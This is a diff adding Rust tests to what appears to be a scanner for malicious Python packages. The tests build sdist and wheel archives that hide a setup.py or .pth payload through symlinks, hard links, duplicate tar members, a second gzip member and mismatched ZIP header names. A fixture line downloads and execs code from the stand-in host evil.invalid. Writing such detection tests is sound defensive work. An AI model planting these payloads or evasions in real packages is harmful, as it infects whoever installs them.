@@ -405,3 +405,101 @@ fn a_wheel_scanned_after_its_sdist_reports_as_if_scanned_alone() {
         reused.findings
     );
 }
+
+/// The attack's payload: download a second stage and run it.
+const STAGE2: &str = "import urllib.request\nexec(urllib.request.urlopen(\"http://evil.invalid/stage2.py\").read())\n";
+
+/// An sdist built from raw tar entries: `(path, Ok(content))` for files, `(path, Err(target))`
+/// for symlinks (hard links when the target starts with `=`). `end` false cuts the end marker.
+fn raw_sdist(entries: &[(&str, Result<&str, &str>)], end: bool) -> Vec<u8> {
+    let mut t = tar::Builder::new(Vec::new());
+    for (p, e) in entries {
+        let mut h = tar::Header::new_gnu();
+        h.set_mode(0o644);
+        match e {
+            Ok(c) => {
+                h.set_size(c.len() as u64);
+                t.append_data(&mut h, p, c.as_bytes()).unwrap();
+            }
+            Err(target) => {
+                let (kind, target) =
+                    if let Some(t) = target.strip_prefix('=') { (tar::EntryType::Link, t) } else { (tar::EntryType::Symlink, *target) };
+                h.set_entry_type(kind);
+                h.set_size(0);
+                t.append_link(&mut h, p, target).unwrap();
+            }
+        }
+    }
+    let mut raw = t.into_inner().unwrap();
+    if !end {
+        raw.truncate(raw.len() - 1024);
+    }
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(&raw).unwrap();
+    gz.finish().unwrap()
+}
+
+const PKG_INFO: &str = "Metadata-Version: 2.1\nName: demo_tool\nVersion: 1.0\n";
+
+#[test]
+fn setup_py_linked_to_a_payload_is_judged_as_setup_py() {
+    let real = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/setup.py", Ok(STAGE2))], true);
+    let real = scanner().scan_bytes(&real, "demo_tool-1.0.tar.gz");
+    assert_eq!(real.verdict, Verdict::Malicious, "{:#?}", real.findings);
+    for link in ["docs/notes.txt", "=demo_tool-1.0/docs/notes.txt"] {
+        let data = raw_sdist(
+            &[
+                ("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)),
+                ("demo_tool-1.0/docs/notes.txt", Ok(STAGE2)),
+                ("demo_tool-1.0/setup.py", Err(link)),
+            ],
+            true,
+        );
+        let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+        assert_eq!(r.verdict, Verdict::Malicious, "{link}: {:#?}", r.findings);
+        assert!(r.findings.iter().any(|f| f.path == "demo_tool-1.0/setup.py" && f.rule.starts_with("py-")), "{link}: {:#?}", r.findings);
+    }
+}
+
+#[test]
+fn regular_setup_py_replaced_by_a_link_is_not_clean() {
+    let data = raw_sdist(
+        &[
+            ("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)),
+            ("demo_tool-1.0/docs/notes.txt", Ok(STAGE2)),
+            ("demo_tool-1.0/setup.py", Ok(SETUP_OK)),
+            ("demo_tool-1.0/setup.py", Err("docs/notes.txt")),
+        ],
+        true,
+    );
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert!(!r.complete);
+    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert!(rules_of(&r).contains(&"archive-duplicate-member"), "{:?}", rules_of(&r));
+}
+
+#[test]
+fn setup_py_in_a_second_gzip_member_is_judged() {
+    let mut data = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/setup.py", Ok(SETUP_OK))], false);
+    data.extend(raw_sdist(&[("demo_tool-1.0/setup.py", Ok(STAGE2))], true));
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Alone in the second member (no duplicate name), it is still found.
+    let mut data = raw_sdist(&[("demo_tool-1.0/PKG-INFO", Ok(PKG_INFO)), ("demo_tool-1.0/README.txt", Ok("hi"))], false);
+    data.extend(raw_sdist(&[("demo_tool-1.0/setup.py", Ok(STAGE2))], true));
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn pth_payload_named_otherwise_in_the_central_directory_is_not_clean() {
+    let pth = "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n";
+    let mut data = wheel(&[("tests/helper_data_0001.py", pth), ("demo-1.0.dist-info/METADATA", PKG_INFO)]);
+    // The local header says `.pth` (what a streaming installer extracts); the central directory
+    // says a test helper.
+    let pos = data.windows(25).position(|w| w == b"tests/helper_data_0001.py").unwrap();
+    data[pos..pos + 25].copy_from_slice(b"zzzzzzzzzzzz_hidden00.pth");
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert!(r.findings.iter().any(|f| f.path == "zzzzzzzzzzzz_hidden00.pth"), "{:#?}", r.findings);
+}
